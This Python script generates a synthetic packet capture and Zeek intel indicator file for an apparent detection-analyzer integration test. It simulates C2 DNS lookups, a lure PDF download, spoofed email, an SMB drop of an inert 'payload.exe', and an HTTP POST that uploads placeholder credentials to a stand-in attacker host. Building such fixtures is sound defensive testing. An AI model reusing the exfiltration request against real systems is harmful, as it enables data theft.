#!/usr/bin/python3
"""Writes input.pcap and intel.dat of the IT-analyzer golden case.

Everything is made up here, on documentation address ranges (RFC 5737) and the reserved
.example domain (RFC 2606). The capture holds, in order:
  1. DNS over UDP: a query for a listed name, answered with CNAME, A, AAAA, MX, NS, TXT and a
     PTR lookup;
  2. DNS over TCP (two-byte length framing, the message split across segments);
  3. HTTP: a GET whose response is chunked (the YARA marker straddles a chunk boundary, so
     only the reassembled file shows it) and named by Content-Disposition; a keep-alive
     connection with two pipelined requests (200 with Content-Length, then 304); a POST with
     a multipart/form-data upload;
  4. TLS 1.2: ClientHello with SNI and GREASE values, ServerHello, a two-certificate chain,
     then encrypted records; the server sits on a whitelisted address inside a listed subnet;
  5. SMTP: envelope and From/To/Cc headers in every RFC 5322 address form;
  6. SMB2: TREE_CONNECT, CREATE, WRITE, READ, CLOSE of tools\\payload.exe.
intel.dat lists an indicator for every Zeek "where" location the agent matches; the
certificate and file hashes in it are computed here from the same bytes.
The two certificates (server.der, ca.der) are made once with openssl and kept, so the capture
is the same on every run:  /usr/bin/python3 make_input.py  (needs python3-scapy, openssl)
"""
import hashlib
import os
import struct
import subprocess
import sys

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, Raw

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from scapy_session import MAC_A, MAC_B, Capture  # noqa: E402

HERE = os.path.dirname(os.path.abspath(sys.argv[0]))
BASE_TS = 1768471200.0  # 2026-01-15T10:00:00Z

CLIENT = "192.0.2.20"
RESOLVER = "192.0.2.1"
WEB = "198.51.100.77"       # inside the listed subnet 198.51.100.0/24
TLS_SERVER = "198.51.100.80"  # inside it too, but whitelisted
MAIL = "203.0.113.25"
SMB_CLIENT = "192.0.2.50"   # listed: Conn::IN_ORIG
FILER = "192.0.2.60"

cap = Capture(BASE_TS)
add = cap.add


def tcp_session(*args, **kw):
    cap.tcp_session(*args, pause_after=0.1, **kw)



def udp(src, sport, dst, dport, payload):
    add(Ether(src=MAC_A, dst=MAC_B) / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / payload)


# 1. DNS over UDP.
q = "c2.bad-vendor.example"
udp(CLIENT, 53001, RESOLVER, 53, DNS(id=0x1001, rd=1, qd=DNSQR(qname=q, qtype="A")))
udp(RESOLVER, 53, CLIENT, 53001,
    DNS(id=0x1001, qr=1, rd=1, ra=1, qd=DNSQR(qname=q, qtype="A"),
        an=DNSRR(rrname=q, type="CNAME", ttl=60, rdata="cdn.bad-vendor.example") /
        DNSRR(rrname="cdn.bad-vendor.example", type="A", ttl=60, rdata=WEB)))
q2 = "bad-vendor.example"
udp(CLIENT, 53002, RESOLVER, 53, DNS(id=0x1002, rd=1, qd=DNSQR(qname=q2, qtype=255)))
udp(RESOLVER, 53, CLIENT, 53002,
    DNS(id=0x1002, qr=1, rd=1, ra=1, qd=DNSQR(qname=q2, qtype=255),
        an=DNSRR(rrname=q2, type="AAAA", ttl=120, rdata="2001:db8::77") /
        DNSRR(rrname=q2, type="MX", ttl=120, rdata=b"\x00\x0a\x04mail\x0abad-vendor\x07example\x00") /
        DNSRR(rrname=q2, type="NS", ttl=120, rdata="ns1.bad-vendor.example") /
        DNSRR(rrname=q2, type="TXT", ttl=120, rdata=[b"v=spf1 -all", b"hello"])))
udp(CLIENT, 53003, RESOLVER, 53, DNS(id=0x1003, rd=1, qd=DNSQR(qname="77.100.51.198.in-addr.arpa", qtype="PTR")))
udp(RESOLVER, 53, CLIENT, 53003,
    DNS(id=0x1003, qr=1, rd=1, ra=1, rcode=0, qd=DNSQR(qname="77.100.51.198.in-addr.arpa", qtype="PTR"),
        an=DNSRR(rrname="77.100.51.198.in-addr.arpa", type="PTR", ttl=300, rdata="files.bad-vendor.example")))
udp(CLIENT, 53004, RESOLVER, 53, DNS(id=0x1004, rd=1, qd=DNSQR(qname="nothing.example", qtype="A")))
udp(RESOLVER, 53, CLIENT, 53004,
    DNS(id=0x1004, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname="nothing.example", qtype="A")))

# 2. DNS over TCP, the response cut into small segments.
tq = bytes(DNS(id=0x2001, rd=1, qd=DNSQR(qname="zone.bad-vendor.example", qtype="TXT")))
ta = bytes(DNS(id=0x2001, qr=1, rd=1, ra=1, qd=DNSQR(qname="zone.bad-vendor.example", qtype="TXT"),
               an=DNSRR(rrname="zone.bad-vendor.example", type="TXT", ttl=30, rdata=[b"over tcp"])))
tcp_session(CLIENT, 40001, RESOLVER, 53,
            [("c2s", struct.pack(">H", len(tq)) + tq), ("s2c", struct.pack(">H", len(ta)) + ta)],
            client_isn=5000, server_isn=9000, mss=17)

# 3. HTTP.
marker = b"SENNINGEN-IT-TEST-MARKER"
pdf = b"%PDF-1.4\n" + b"quarterly numbers " * 40 + marker + b"\n%%EOF\n"
cut = pdf.index(marker) + 10  # the marker straddles two chunks
chunks = [pdf[:cut], pdf[cut:]]
chunked = b"".join(b"%x\r\n" % len(c) + c + b"\r\n" for c in chunks) + b"0\r\n\r\n"
get = (b"GET /downloads/report.pdf HTTP/1.1\r\nHost: files.bad-vendor.example\r\n"
       b"User-Agent: EvilBot/6.6\r\nReferer: http://phish.bad-vendor.example/landing\r\n"
       b"Accept: */*\r\n\r\n")
resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Disposition: attachment; filename=\"report-Q3.pdf\"\r\n\r\n" + chunked)
tcp_session(CLIENT, 49301, WEB, 80, [("c2s", get), ("s2c", resp)], client_isn=100, server_isn=200)

page = b"<html><body>status page</body></html>\n"
two = (b"GET /status HTTP/1.1\r\nHost: files.bad-vendor.example:8080\r\nUser-Agent: curl/8.0\r\n\r\n"
       b"GET /logo.png HTTP/1.1\r\nHost: files.bad-vendor.example:8080\r\n"
       b"If-None-Match: \"x\"\r\n\r\n")
answers = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
           str(len(page)).encode() + b"\r\n\r\n" + page +
           b"HTTP/1.1 304 Not Modified\r\nETag: \"x\"\r\n\r\n")
tcp_session(CLIENT, 49302, WEB, 8080, [("c2s", two), ("s2c", answers)], client_isn=300, server_isn=400)

secret = b"user=admin\npassword=hunter2\nplant=north\n"
boundary = b"----senningen-boundary-42"
form = (b"--" + boundary + b"\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nhello\r\n"
        b"--" + boundary + b"\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"exfil.txt\"\r\n"
        b"Content-Type: text/plain\r\n\r\n" + secret + b"\r\n--" + boundary + b"--\r\n")
post = (b"POST /upload HTTP/1.1\r\nHost: files.bad-vendor.example\r\nUser-Agent: EvilBot/6.6\r\n"
        b"Content-Type: multipart/form-data; boundary=" + boundary + b"\r\n"
        b"Content-Length: " + str(len(form)).encode() + b"\r\n\r\n" + form)
ok = b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"
tcp_session(CLIENT, 49303, WEB, 80, [("c2s", post), ("s2c", ok)], client_isn=500, server_isn=600)


# 4. TLS 1.2.
def cert(name, subject, extra):
    path = os.path.join(HERE, name)
    if not os.path.exists(path):
        pem = subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "/dev/null",
             "-subj", subject, "-days", "3650", "-outform", "DER", "-out", path] + extra,
            check=True, capture_output=True)
        del pem
    with open(path, "rb") as f:
        return f.read()


server_der = cert("server.der", "/C=NL/O=Bad Vendor/CN=portal.bad-vendor.example",
                  ["-addext", "subjectAltName=DNS:portal.bad-vendor.example,DNS:www.bad-vendor.example,"
                              "email:pki@bad-vendor.example"])
ca_der = cert("ca.der", "/C=NL/O=Bad Vendor/CN=Bad Vendor Root CA", [])


def hs(msg_type, body):
    return bytes([msg_type]) + len(body).to_bytes(3, "big") + body


def record(content_type, body):
    return bytes([content_type, 3, 3]) + struct.pack(">H", len(body)) + body


def ext(ext_type, body):
    return struct.pack(">HH", ext_type, len(body)) + body


sni = b"portal.bad-vendor.example"
ciphers = [0x0A0A, 0xC02F, 0xC030, 0x009C]
extensions = (ext(0x1A1A, b"") +
              ext(0, struct.pack(">HBH", len(sni) + 3, 0, len(sni)) + sni) +
              ext(10, struct.pack(">H", 6) + struct.pack(">HHH", 0x2A2A, 29, 23)) +
              ext(11, b"\x01\x00") +
              ext(13, struct.pack(">H", 4) + struct.pack(">HH", 0x0401, 0x0804)))
client_hello = hs(1, b"\x03\x03" + bytes(range(32)) + b"\x00" +
                  struct.pack(">H", 2 * len(ciphers)) + b"".join(struct.pack(">H", c) for c in ciphers) +
                  b"\x01\x00" + struct.pack(">H", len(extensions)) + extensions)
server_hello = hs(2, b"\x03\x03" + bytes(range(32, 64)) + b"\x00" + struct.pack(">H", 0xC02F) + b"\x00" +
                  struct.pack(">H", 5) + ext(0xFF01, b"\x00"))
chain = b"".join(len(d).to_bytes(3, "big") + d for d in (server_der, ca_der))
certificate = hs(11, len(chain).to_bytes(3, "big") + chain)
done = hs(14, b"")
server_flight = record(22, server_hello) + record(22, certificate + done)
client_flight = record(22, hs(16, b"\x00\x02\xab\xcd")) + record(20, b"\x01") + record(22, bytes(40))
server_finish = record(20, b"\x01") + record(22, bytes(40))
tcp_session(CLIENT, 49400, TLS_SERVER, 443,
            [("c2s", record(22, client_hello)), ("s2c", server_flight), ("c2s", client_flight),
             ("s2c", server_finish), ("c2s", record(23, bytes(64))), ("s2c", record(23, bytes(128)))],
            client_isn=700, server_isn=800)

# 5. SMTP.
message = (b"From: \"Doe, John (IT)\" <CEO@bad-sender.example>\r\n"
           b"To: Operators: ops@plant.example, \"Night Shift\" <night@plant.example>;,\r\n"
           b" victim@plant.example (the victim)\r\n"
           b"Cc: =?UTF-8?Q?J=C3=BCrgen?= <juergen@plant.example>, <@relay.example:routed@plant.example>\r\n"
           b"Subject: invoice\r\nMessage-ID: <1@bad-sender.example>\r\n\r\n"
           b"Please see the attachment.\r\n..leading dot\r\n.\r\n")
smtp = [("s2c", b"220 mail.plant.example ESMTP Postfix\r\n"),
        ("c2s", b"EHLO client.example\r\n"),
        ("s2c", b"250-mail.plant.example\r\n250 PIPELINING\r\n"),
        ("c2s", b"MAIL FROM:<Spoofer@Bad-Sender.example> SIZE=1234\r\n"),
        ("s2c", b"250 2.1.0 Ok\r\n"),
        ("c2s", b"RCPT TO:<ops@plant.example>\r\n"),
        ("s2c", b"250 2.1.5 Ok\r\n"),
        ("c2s", b"RCPT TO:<\"j. doe\"@plant.example>\r\n"),
        ("s2c", b"250 2.1.5 Ok\r\n"),
        ("c2s", b"DATA\r\n"),
        ("s2c", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
        ("c2s", message),
        ("s2c", b"250 2.0.0 Ok: queued\r\n"),
        ("c2s", b"QUIT\r\n"),
        ("s2c", b"221 2.0.0 Bye\r\n")]
tcp_session(CLIENT, 49500, MAIL, 25, smtp, client_isn=900, server_isn=1000)


# 6. SMB2.
def smb2(command, message_id, body, response=False, status=0, tree_id=0):
    header = (b"\xfeSMB" + struct.pack("<HHIHHII", 64, 1, status, command, 1, 1 if response else 0, 0) +
              struct.pack("<QIIQ", message_id, 0, tree_id, 0x1234) + bytes(16))
    msg = header + body
    return struct.pack(">I", len(msg)) + msg


def utf16(text):
    return text.encode("utf-16-le")


share = utf16("\\\\filer\\engineering")
tree_req = smb2(3, 1, struct.pack("<HHHH", 9, 0, 72, len(share)) + share)
tree_resp = smb2(3, 1, struct.pack("<HBBIII", 16, 1, 0, 0, 0, 0x1f01ff), response=True, tree_id=5)
name = utf16("tools\\payload.exe")
create_req = smb2(5, 2, struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x12019f, 0x80, 7, 5, 0x40,
                                    64 + 56, len(name), 0, 0) + name, tree_id=5)
file_id = bytes(range(0x40, 0x50))
create_resp = smb2(5, 2, struct.pack("<HBBIQQQQQQII", 89, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0x80, 0) +
                   file_id + struct.pack("<II", 0, 0), response=True, tree_id=5)
payload = b"MZ" + b"\x90" * 62 + b"SENNINGEN-IT-SMB-PAYLOAD" + bytes(range(200))
write_req = smb2(9, 3, struct.pack("<HHIQ", 49, 64 + 48, len(payload), 0) + file_id +
                 struct.pack("<IIHHI", 0, 0, 0, 0, 0) + payload, tree_id=5)
write_resp = smb2(9, 3, struct.pack("<HHIII", 17, 0, len(payload), 0, 0), response=True, tree_id=5)
read_req = smb2(8, 4, struct.pack("<HBBIQ", 49, 0, 0, len(payload), 0) + file_id +
                struct.pack("<IIIHHB", 0, 0, 0, 0, 0, 0), tree_id=5)
read_resp = smb2(8, 4, struct.pack("<HBBIII", 17, 64 + 16, 0, len(payload), 0, 0) + payload,
                 response=True, tree_id=5)
close_req = smb2(6, 5, struct.pack("<HHI", 24, 0, 0) + file_id, tree_id=5)
close_resp = smb2(6, 5, struct.pack("<HHI", 60, 0, 0) + bytes(52), response=True, tree_id=5)
tcp_session(SMB_CLIENT, 49600, FILER, 445,
            [("c2s", tree_req), ("s2c", tree_resp), ("c2s", create_req), ("s2c", create_resp),
             ("c2s", write_req), ("s2c", write_resp), ("c2s", read_req), ("s2c", read_resp),
             ("c2s", close_req), ("s2c", close_resp)],
            client_isn=1100, server_isn=1200)

cap.write(os.path.join(HERE, "input.pcap"))

# The intel file: one indicator per "where" location, hashes computed from the bytes above.
rows = [
    (SMB_CLIENT, "Intel::ADDR", "it-golden", "SMB client (Conn::IN_ORIG)", "-"),
    ("198.51.100.0/24", "Intel::SUBNET", "it-golden", "hosting range", "-"),
    (TLS_SERVER, "Intel::ADDR", "it-golden", "known good portal", "T"),
    ("c2.bad-vendor.example", "Intel::DOMAIN", "it-golden", "C2 name", "-"),
    ("cdn.bad-vendor.example", "Intel::DOMAIN", "it-golden", "CNAME target", "-"),
    ("files.bad-vendor.example", "Intel::DOMAIN", "it-golden", "download host", "-"),
    ("files.bad-vendor.example/downloads/report.pdf", "Intel::URL", "it-golden", "payload URL", "-"),
    ("http://phish.bad-vendor.example/landing", "Intel::URL", "it-golden", "phishing page", "-"),
    ("EvilBot/6.6", "Intel::SOFTWARE", "it-golden", "bot user agent", "-"),
    ("portal.bad-vendor.example", "Intel::DOMAIN", "it-golden", "portal (SNI and SAN)", "-"),
    (hashlib.sha1(server_der).hexdigest(), "Intel::CERT_HASH", "it-golden", "portal certificate", "-"),
    ("pki@bad-vendor.example", "Intel::EMAIL", "it-golden", "certificate contact", "-"),
    ("spoofer@bad-sender.example", "Intel::EMAIL", "it-golden", "envelope sender", "-"),
    ("ops@plant.example", "Intel::EMAIL", "it-golden", "recipient", "-"),
    ("ceo@bad-sender.example", "Intel::EMAIL", "it-golden", "header sender", "-"),
    ("night@plant.example", "Intel::EMAIL", "it-golden", "To in a group", "-"),
    ("juergen@plant.example", "Intel::EMAIL", "it-golden", "Cc", "-"),
    (hashlib.sha256(secret).hexdigest(), "Intel::FILE_HASH", "it-golden", "exfiltrated file", "-"),
    ("report-Q3.pdf", "Intel::FILE_NAME", "it-golden", "lure document", "-"),
    ("tools\\payload.exe", "Intel::FILE_NAME", "it-golden", "dropped tool", "-"),
]
with open(os.path.join(HERE, "intel.dat"), "w") as f:
    f.write("#fields\tindicator\tindicator_type\tmeta.source\tmeta.desc\tmeta.whitelist\n")
    for row in rows:
        f.write("\t".join(row) + "\n")
print(f"wrote {len(cap.packets)} packets and {len(rows)} indicators")
